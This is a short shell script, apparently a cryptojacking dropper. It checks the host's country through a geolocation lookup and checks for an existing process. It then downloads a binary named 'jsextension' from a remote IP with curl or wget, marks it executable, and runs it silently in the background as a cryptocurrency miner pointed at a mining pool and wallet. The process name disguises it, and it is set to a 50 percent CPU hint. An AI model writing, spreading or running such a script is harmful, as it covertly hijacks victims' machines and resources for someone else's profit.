IP=$(curl -k -s https://geo.example/cc | grep -E 'XX|YY')
if [ -z "$IP" ]; then
  var=$(pgrep jsextension)
  if [ -z "$var" ]; then
    curl http://198.51.100.155/download/jsextension -o jsextension || wget http://198.51.100.155/download/jsextension -O jsextension
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.example:443 -u 49placeholder --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
